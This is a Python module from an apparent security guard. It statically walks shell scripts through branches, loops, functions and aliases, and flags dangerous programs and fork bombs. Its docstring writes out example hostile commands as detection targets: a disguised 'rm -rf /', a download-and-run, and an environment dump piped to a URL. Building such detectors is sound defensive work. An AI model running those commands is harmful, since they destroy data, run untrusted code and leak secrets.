"""Walk through a script in the order in which it would run, and judge each program.

The walk follows variables, functions, aliases, the current folder, written files and the origins of
data, so that it recognises `X=rm; $X -rf /`, `curl -o f URL; sh f` and `env | curl -d @- URL`.
Every branch counts, and after a branch each way through it is kept as a reading; nothing is run.
"""

import re
import shlex
from functools import partial, reduce

from demur.guards.code_execution.call import (
    EMPTY,
    UNKNOWN,
    Arg,
    CommandHit,
    ProgramCall,
    Value,
    join_values,
    program_name,
)
from demur.guards.code_execution.command_walk import SILENCE, CommandWalk, Outputs, join_outputs
from demur.guards.code_execution.context import MAX_DEPTH, Location
from demur.guards.code_execution.shell_state import (
    ANY_TEXT,
    ShellState,
    add_bodies,
    bound_readings,
)
from demur.guards.static.shell_script import read_script
from demur.guards.static.shell_words import (
    CaseCommand,
    CommandGroup,
    CommandList,
    CompoundCommand,
    ConditionalCommand,
    ForLoop,
    ShellFunction,
    ShellNode,
    ShellPipeline,
    ShellScript,
    SimpleCommand,
    WhileLoop,
)

_MAX_TURNS = 256
_MAX_CHUNKS = 300
_AS_TEXT = ProgramCall("", Arg("", 0, 0), ())
_CHUNK = re.compile(r"[^\n;|&()`{}]+")


class ScriptWalk(CommandWalk):
    """One walk through one event: it judges each program and collects the hits."""

    def walk_shell(self, arg: Arg, location: Location, stdin: Value = EMPTY) -> Value:
        """Walk through a text as a shell would, and return its output."""
        outputs = self.walk_text(arg, location, (stdin,))
        return outputs[0] if len(outputs) == 1 else join_values(list(outputs), "\n")

    def walk_text(self, arg: Arg, location: Location, stdin: Outputs) -> Outputs:
        """Walk through a text as a shell would, and return its outputs."""
        if location.depth >= MAX_DEPTH:
            self.report(CommandHit("NESTED_TOO_DEEP"), arg.start, arg.end, "", location)
            return (UNKNOWN,)
        if self.budget_exceeded(_AS_TEXT._replace(args=(arg,)), arg.start, arg.end, location):
            return (UNKNOWN,)
        script = read_script(arg.text)
        inner = location.enter(arg)
        if script.problem and not script.nodes:
            self._judge_flat_text(arg.text, inner)
        elif script.problem and location.depth == 0:
            self.report(CommandHit("UNREADABLE", script.problem), 0, len(arg.text), "", inner)
        outputs = self.walk_script(script, inner, stdin)
        if location.depth == 0:
            self.settle()
            self.run_traps(inner)
            if self.state.full:
                self.report(CommandHit("TOO_MANY_READINGS"), 0, len(arg.text), "", inner)
        return outputs

    def _judge_flat_text(self, text: str, location: Location) -> None:
        """Judge a text that nests too deep as flat words, cut wherever a command could end."""
        self.report(CommandHit("NESTED_TOO_DEEP"), 0, len(text), "", location)
        for number, chunk in enumerate(_CHUNK.finditer(text)):
            words = chunk[0].replace('"', " ").replace("'", " ").replace("$", " ").split()
            if number >= _MAX_CHUNKS:
                break
            if words:
                span = (chunk.start(), chunk.end())
                name, *args = (Arg(word, *span) for word in words)
                verb, cwd = program_name(name.text), self.state.cwd
                call = ProgramCall(verb, name, tuple(args), via=location.via, cwd=cwd)
                self.judge_program(call, *span, location)

    # Statements.

    def walk_script(
        self, script: ShellScript, location: Location, stdin: Outputs = SILENCE
    ) -> Outputs:
        """Walk through `script`, and return its whole output."""
        outputs = SILENCE
        for number, node in enumerate(script.nodes):
            if self.exhausted:
                return (UNKNOWN,)
            if number:
                self.settle()
                self.state.dead = False
            outputs = join_outputs(outputs, self._walk_node(node, location, stdin))
        return outputs

    def _walk_node(self, node: ShellNode, location: Location, stdin: Outputs) -> Outputs:
        if isinstance(node, SimpleCommand):
            return self.walk_simple(node, location, stdin)
        if isinstance(node, ShellPipeline):
            return self._walk_pipeline(node, location, stdin)
        if isinstance(node, CommandList):
            return self._walk_list(node, location, stdin)
        if isinstance(node, ShellFunction):
            self._define_function(node, location)
            return SILENCE
        stdin = self.redirected_input(node, location, stdin)
        outputs = self._walk_compound(node, location, stdin)
        outputs = self.write_out(outputs, node, location)
        self.feed_sinks()
        return outputs

    def _walk_compound(self, node: CompoundCommand, location: Location, stdin: Outputs) -> Outputs:
        if isinstance(node, CommandGroup):
            walk = partial(self.walk_script, node.body, location, stdin)
            return self.walk_subshell(walk, location) if node.subshell else walk()
        if isinstance(node, ConditionalCommand):
            return self._walk_branches(node.branches, location, stdin)
        if isinstance(node, CaseCommand):
            return self._walk_case(node, location, stdin)
        self.left.append([])
        if isinstance(node, ForLoop):
            outputs = self._walk_for(node, location, stdin)
        else:
            outputs = self._walk_while(node, location, stdin)
        self.settle()
        self.state = reduce(ShellState.merge_state, self.left.pop(), self.state)
        self.state.dead = False
        return outputs

    def _walk_pipeline(self, node: ShellPipeline, location: Location, stdin: Outputs) -> Outputs:
        """Walk the stages; each runs in a subshell, the last in some shells in this one."""
        if len(node.stages) == 1:
            outputs = self.walk_checked(lambda: self._walk_node(node.stages[0], location, stdin))
            self.settle()
            return outputs
        inner = location._replace(pipe_start=node.start)
        before = self.state
        for stage in node.stages:
            self.state = before.copy_state(share_files=True)
            stdin = self._walk_node(stage, inner, stdin)
            self.settle()
        self.state = before.merge_state(self.state)
        return stdin

    def _walk_list(self, node: CommandList, location: Location, stdin: Outputs) -> Outputs:
        """Walk `a && b || c`, each from the state in which it would run."""
        outputs = self.walk_checked(lambda: self._walk_node(node.first, location, stdin))
        for number, (operator, choice) in enumerate(node.rest, start=1):
            failure, success = self.take_failure(), self.state
            self.state = (success if operator == "&&" else failure).copy_state()
            walk = partial(self._walk_node, choice, location, stdin)
            exits = number == len(node.rest) and self.state.exits_on_error
            added = walk() if exits else self.walk_checked(walk)
            both = join_outputs(outputs, added)
            end, end_failure = self.state, self.failed_state()
            if exits:
                end_failure = end_failure.copy_state()
                end_failure.dead = True
            if operator == "&&":
                self.state, self.failure = end, failure.merge_state(end_failure)
                outputs = bound_readings((*both, *outputs), UNKNOWN)
            else:
                self.state, self.failure = success.merge_state(end), end_failure
                outputs = bound_readings((*outputs, *added, *both), UNKNOWN)
            if self.exhausted:
                break
        return outputs

    def _walk_branches(
        self,
        branches: tuple[tuple[ShellScript, ShellScript], ...],
        location: Location,
        stdin: Outputs,
    ) -> Outputs:
        """Walk the branches of `if`: each from the state behind its condition."""
        ends: list[ShellState] = []
        outputs: list[Value] = []
        conditions = SILENCE
        for condition, body in branches:
            if condition.nodes:
                walk = partial(self.walk_script, condition, location, stdin)
                conditions = join_outputs(conditions, self.walk_checked(walk))
            failure = self.take_failure()
            found = self.walk_script(body, location, stdin)
            outputs += join_outputs(conditions, found)
            self.settle()
            ends.append(self.state)
            self.state = failure
        if not branches or branches[-1][0].nodes:
            ends.append(self.state)
            outputs += conditions
        self.state = reduce(ShellState.merge_state, ends)
        return bound_readings(outputs, UNKNOWN)

    def _walk_case(self, node: CaseCommand, location: Location, stdin: Outputs) -> Outputs:
        self.expand_whole(node.subject, location)
        before, outputs = self.state, list(SILENCE)
        for patterns, body in node.branches:
            for pattern in patterns:
                self.expand_whole(pattern, location)
            self.state = before.merge_state(self.state).copy_state()
            outputs += self.walk_script(body, location, stdin)
            self.settle()
            before = before.merge_state(self.state)
        self.state = before
        return bound_readings(outputs, UNKNOWN)

    def _walk_while(self, node: WhileLoop, location: Location, stdin: Outputs) -> Outputs:
        outputs: list[Value] = list(SILENCE)
        for _ in range(2):  # what the first turn leaves, the second may use
            before = self.state.copy_state()
            walk = partial(self.walk_script, node.condition, location, stdin)
            printed = self.walk_checked(walk)
            failure = self.take_failure()
            outputs += join_outputs(printed, self.walk_script(node.body, location, stdin))
            self.settle()
            self.state = failure.merge_state(self.state).copy_state()
            if self.state.is_same(before):
                break
        return bound_readings(outputs, UNKNOWN)

    def _walk_for(self, node: ForLoop, location: Location, stdin: Outputs) -> Outputs:
        values, sure = self._loop_values(node, location)
        if len(values) > _MAX_TURNS:
            hit = CommandHit("TOO_MANY_READINGS", f"{node.name} in {len(values)} words")
            self.report(hit, node.start, node.end, "for", location)
        before = self.state.copy_state()
        outputs = SILENCE
        for value in values[:_MAX_TURNS]:
            self.state.assign(node.name, value)
            outputs = join_outputs(outputs, self.walk_script(node.body, location, stdin))
            self.settle()
            if self.exhausted:
                break
        if not sure:
            self.state = before.merge_state(self.state)
            outputs = bound_readings((*outputs, *SILENCE), UNKNOWN)
        return outputs

    def _loop_values(self, node: ForLoop, location: Location) -> tuple[list[Value], bool]:
        """Return the values of a loop's variable, and whether it surely takes them all."""
        if node.words is None:
            readings = self.state.positional
        else:
            words = [self.expand_args(word, location) for word in node.words]
            readings = tuple(
                tuple(arg.value for arg in args) for alternatives in words for args in alternatives
            )
        values = [value for reading in readings for value in reading or (ANY_TEXT,)]
        sure = bool(values) and all(value.known for value in values)
        distinct = list(dict.fromkeys(values)) or [ANY_TEXT]
        # A loop over something unknown turns more than once.
        return (distinct if sure else distinct * 2), sure

    def _define_function(self, node: ShellFunction, location: Location) -> None:
        self.state.functions[node.name] = (node.body,)
        if any(_calls_itself_twice(inner, node.name) for inner in node.body.nodes):
            hit = CommandHit("FORK_BOMB", node.name)
            self.report(hit, node.start, node.end, node.name, location)
        if node.name == "command_not_found_handle":
            self.walk_subshell(partial(self.walk_script, node.body, location), location)

    # Functions and aliases.

    def run_named(self, call: ProgramCall, start: int, end: int, location: Location) -> Outputs:
        """Run a function, an alias or a program, by its name, and return its output.

        An alias counts only in some shells, so the name itself is run as well. A program between
        (`command rm`) passes functions by.
        """
        name = call.name.text
        if name not in self.state.functions and name not in self.state.aliases:
            return self.run_program(call, start, end, location)
        bodies = self.state.functions.get(name, (None,)) if call.name.known else (None,)
        if call.via != location.via or location.via[-1:] not in {(), ("eval",)}:
            bodies = add_bodies(bodies, (None,))
        ways: list[partial[Outputs]] = [
            partial(self.run_program, call, start, end, location)
            if body is None
            else partial(self.walk_function, body, call, location)
            for body in bodies
        ]
        if name in self.state.aliases and name not in self.expanding:
            texts = self.state.aliases[name]
            ways.extend(partial(self._run_alias, text, call, location) for text in texts)
        return self.take_ways(ways)

    def _run_alias(self, text: str, call: ProgramCall, location: Location) -> Outputs:
        rest = " ".join(shlex.quote(arg.text) for arg in call.args)
        arg = call.name._replace(text=f"{text} {rest}", offset=None)
        before, self.expanding = self.expanding, self.expanding | {call.name.text}
        outputs = self.walk_text(arg, location, (call.stdin,))
        self.expanding = before
        return outputs

    def walk_function(self, body: ShellScript, call: ProgramCall, location: Location) -> Outputs:
        """Walk through the body of a function with the arguments of a call."""
        span = (call.name.start, call.name.end)
        if self.budget_exceeded(call, *span, location):
            return (UNKNOWN,)
        if location.depth >= MAX_DEPTH:
            self.report(CommandHit("NESTED_TOO_DEEP"), *span, call.verb, location)
            return (UNKNOWN,)
        before = self.state.copy_state()
        self.state.positional = (tuple(arg.value for arg in call.args),)
        self.state.local_names = frozenset()
        self.left.append([])
        inner = location._replace(depth=location.depth + 1)
        outputs = self.walk_script(body, inner, (call.stdin,))
        self.state = reduce(ShellState.merge_state, self.left.pop(), self.state)
        for state in (self.state, self.failed_state()):
            for name in state.local_names or ():
                state.variables.pop(name, None)
                if name in before.variables:
                    state.variables[name] = before.variables[name]
            state.positional, state.local_names = before.positional, before.local_names
        for target in call.writes:
            for output in outputs:
                self.state.write_file(target.target.text, output, append=target.append)
        return outputs


def _calls_itself_twice(node: ShellNode, name: str) -> bool:
    """Whether a function pipes itself into itself."""
    if isinstance(node, CommandGroup):
        return any(_calls_itself_twice(inner, name) for inner in node.body.nodes)
    if not isinstance(node, ShellPipeline):
        return False
    stages = (stage for stage in node.stages if isinstance(stage, SimpleCommand) and stage.words)
    firsts = (stage.words[0].pieces for stage in stages)
    return sum((pieces[0].text if pieces else "") == name for pieces in firsts) > 1
